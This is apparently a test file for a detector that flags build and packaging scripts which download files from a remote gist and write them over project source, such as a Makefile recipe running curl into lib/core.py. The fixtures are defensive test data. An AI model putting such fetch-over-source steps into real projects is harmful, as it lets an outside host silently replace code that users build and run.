import detector from "../../../../src/engine/detectors/content/source-replaced.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const RAW = "https://gist.githubusercontent.com/some/one/raw";
const script = (address: string, folder: string, file: string) =>
  `import { execFileSync } from "node:child_process";\nimport { join } from "node:path";\nfunction download(urls, folder, file) {\n  for (const url of urls) execFileSync("curl", ["-s", "-o", join(folder, file), url]);\n}\ndownload(["${address}"], "${folder}", "${file}");\n`;

test.each([
  ["a backup file becomes a module", { "scripts/package.ts": script(`${RAW}/main.bk`, "src/", "main.ts") }, ["strong"]],
  ["the kind of file stays", { "scripts/package.ts": script(`${RAW}/main.ts`, "src/", "main.ts") }, ["medium"]],
  ["a recipe", { Makefile: `build:\n\tcurl -so lib/core.py ${RAW}/core.txt\n` }, ["strong"]],
  ["a table of data", { "scripts/zones.ts": script(`${RAW}/zones.txt`, "src/", "zones.json") }, []],
  ["a folder that is no source", { "scripts/a.sh": `curl -so /tmp/a.py ${RAW}/a.txt\n` }, []],
  ["another host", { "scripts/a.sh": "curl -so src/a.py https://x.example/a.txt\n" }, []],
  ["a library at run time", { "src/a.js": script(`${RAW}/main.bk`, "src/", "main.ts") }, []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
